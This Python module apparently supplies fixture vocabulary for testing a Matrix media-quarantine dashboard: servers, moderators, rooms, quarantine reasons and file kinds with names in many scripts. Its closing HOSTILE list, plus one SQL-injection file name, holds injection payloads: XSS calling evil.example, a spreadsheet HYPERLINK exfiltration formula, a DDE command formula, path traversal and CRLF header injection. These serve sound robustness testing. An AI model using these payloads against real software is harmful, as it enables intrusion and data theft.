"""The words the sample is made of: servers, people, rooms, reasons and file names, friendly and hostile."""

from dataclasses import dataclass

# Other servers and how often their media is seen here; the first two send mostly spam.
REMOTE_SERVERS = {
    "cdn.spam.example": 26,
    "free-nitro.example": 9,
    "kde.example": 14,
    "mozilla.example": 12,
    "tchncs.example": 11,
    "fosdem.example": 8,
    "uni-leipzig.example": 7,
    "матрица.example": 5,
    "chat.ebikers.example": 5,
    "matrix.coop.example": 4,
    "bücher.example": 3,
    "homelab.example:8448": 2,
    "[2001:db8::42]:8448": 1,
}
SPAM_SERVERS = ("cdn.spam.example", "free-nitro.example")

MODERATORS = ("@modbot", "@alice", "@jo.admin", "@tomasz")  # Matrix users of our server who act without the dashboard
DASHBOARD_USER = "@quarantine-dashboard"  # whose token the dashboard acts with
COLLEAGUES = ("priya.nair", "tom.okafor", "ines.vaz")  # staff of the sample who never sign in

FIRST_NAMES = (
    "lena", "sam", "kostya", "devon", "amira", "yuki", "noor", "mateo", "anouk", "björk", "chidi", "eun-ji",
    "farid", "greta", "hamza", "ivana", "jonas", "kiran", "luz", "milan", "nadia", "oskar", "pilar", "quinn",
    "rosa", "sven", "tariq", "uma", "vikram", "wanja", "ximena", "yusuf", "zofia", "نور", "ольга", "小林",
)  # fmt: skip
SPAMMER_NAMES = ("claim-bot", "elon_real", "mallory", "free_gifts", "hot.singles", "crypto-king", "support-desk", "xx")

ROOMS = (
    "!lobby7dKq:{home}",
    "!offtopicWz2:{home}",
    "!rYkQmVtL:tchncs.example",
    "!marktZ9f:{home}",
    "!kdePlasma4x:kde.example",
)

QUARANTINE_REASONS = {
    "spam": (
        "Scam image, reported by four members of #lobby",
        "Giveaway scam, part of today's wave",
        "Advertising for a phishing site",
        "Same picture posted to eleven rooms within a minute",
    ),
    "harassment": (
        "Threats towards a named person; escalated, case 884",
        "Shows another member's home address",
        "Reported by its subject; consent withdrawn",
    ),
    "malware": ("Executable in an archive, flagged by two scanners", "Malware lure"),
    "abuse": ("Reported to the hotline, kept for the police, case 1032",),
    "other": ("", "On request of the room's moderators", "Политика сервера, пункт 4", "=SUM(1,2) is not a reason"),
}
RELEASE_REASONS = (
    "Appeal #{number} upheld",
    "False positive: the hash list entry was withdrawn",
    "Quarantined by mistake during a sweep",
    "Wrong file: the report meant another picture",
    "Parody, allowed by our rules",
)


@dataclass(frozen=True, slots=True)
class Kind:
    """A type of file: how often, how big (median bytes and spread of a log-normal), and its file names.

    Names may hold {date} {time} {clock} {n}.
    """

    media_type: str
    weight: int
    size: int
    spread: float
    names: tuple[str, ...]


KINDS = (
    Kind("image/jpeg", 380, 900_000, 1.1, (
        "IMG_{date}_{time}.jpg", "DSC_{n}.jpg", "photo_{n}@{clock}.jpg", "cat.jpeg", "image.jpg", "IMG-{date}-WA{n}.jpg",
        "Лето на даче.jpg", "صورة من الحفل ١٢.jpg", "家族写真.jpg", "사진 {n}.jpg", "Geburtstag Oma Käthe.jpg", "होली {n}.jpg",
        "🎂🎉 party 🎉.jpg",
    )),
    Kind("image/png", 260, 420_000, 1.2, (
        "Screenshot_{date}-{time}.png", "image.png", "screenshot.png", "logo-draft-v{n}.png", "meme_collection_{n}.png",
        "Снимок экрана {date} в {clock} (копия 2).png", "スクリーンショット {date}.png", "لقطة شاشة {n}.png", "截图{n}.png",
        "untitled-diagram-{n}.drawio.png", "Bildschirmfoto vom {date} {clock}.png",
    )),
    Kind("image/webp", 70, 90_000, 0.9, ("image.webp", "sticker_{n}.webp", "", "貼圖{n}.webp")),
    Kind("image/gif", 50, 2_400_000, 0.9, ("free_nitro_claim_here.gif", "reaction_{n}.gif", "😂😂😂.gif", "tenor-{n}.gif")),
    Kind("image/heic", 20, 2_900_000, 0.5, ("IMG_{n}.HEIC",)),
    Kind("image/svg+xml", 8, 9_000, 1.3, ("icon-{n}.svg", "diagram.svg")),
    Kind("video/mp4", 70, 14_000_000, 1.2, (
        "VID_{date}_{time}.mp4", "clip {n}.mp4", "town-hall-{date}.mp4", "видео {n}.mp4", "録画{n}.mp4", "🔥🔥 LEAKED 🔥🔥.mp4",
    )),
    Kind("video/webm", 14, 20_000_000, 1.1, (
        "screencast-{date}.webm", "untitled-screen-recording-do-not-share-outside-this-room-version-7-final-final.webm",
    )),
    Kind("audio/ogg", 40, 310_000, 1.0, ("voice-message-{date}T{clock}.ogg", "Voice message.ogg", "голосовое {n}.ogg")),
    Kind("audio/mpeg", 12, 4_200_000, 0.6, ("track {n}.mp3", "أغنية {n}.mp3")),
    Kind("application/pdf", 36, 380_000, 1.3, (
        "Q3 incident review — minutes.pdf", "invoice_{n}.pdf", "Отчёт за квартал.pdf", "会议记录 {date}.pdf", "تقرير {n}.pdf",
        "Rechnung Nr. {n} (Mahnung!).pdf",
    )),
    Kind("text/plain", 16, 2_000, 1.5, ("notes.txt", "log-{date}.txt", "README", "' OR 1=1; DROP TABLE media;--.txt")),
    Kind("text/csv", 5, 12_000, 1.2, ("members.csv", "export-{date}.csv")),
    Kind("application/zip", 14, 6_000_000, 1.5, ("photos-{date}.zip", "payload.zip", "CV_{n}.zip")),
    Kind("application/x-7z-compressed", 4, 30_000_000, 1.0, ("payload.7z",)),
    Kind("application/octet-stream", 14, 500_000, 1.8, ("", "attachment", "file_{n}.bin")),
    Kind("application/x-msdownload", 4, 3_000_000, 1.0, ("setup_{n}.exe", "crack.exe")),
)  # fmt: skip

# What strangers put into names to break whoever shows them, with the type they claim.
HOSTILE = (
    ("<script>fetch('//evil.example')</script>.svg", "image/svg+xml"),
    ("invoice\u202efdp.zip", "application/zip"),
    ('=HYPERLINK("https://evil.example/?x="&A1,"open me").csv', "text/csv"),
    ("../../../../etc/passwd%00.png", "image/png"),
    ('"><img src=x onerror=alert(document.domain)>.jpg', "image/jpeg"),
    ("a" * 896 + ".png", "image/png"),
    ("", "image/jpeg"),
    ("   \u200b\u2060  .jpg", "image/jpeg"),
    ("Z\u0351\u036b\u0343a\u0341\u0317l\u033b\u0353g\u0321\u0353o\u0322 \u0334\u0318image\u0339.png", "image/png"),
    ("@SUM(1+1)*cmd|' /C calc'!A0.csv", "text/csv"),
    ("{{ request.user }}{% load x %}${7*7}.txt", "text/plain"),
    ("line one\r\nSet-Cookie: a=b\r\n\r\n.txt", "text/plain"),
    ("CON.png", "image/png"),
    ("\u2066\u2067hidden\u2069\u2069 \u202emoc.elpmaxe//:sptth.html", "text/html"),
    ("\x1b[2J\x1b[31mcleared your terminal\x07.log", "text/plain"),
    ("👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍💻 family.png", "image/png"),
    ("javascript:alert(1).html", "text/html"),
    ("photo.jpg", 'image/jpeg"><script>alert(1)</script>'),
    ("no type at all", ""),
    ("photo.png", "image/png; charset=utf-8; name=" + "x" * 180),
)
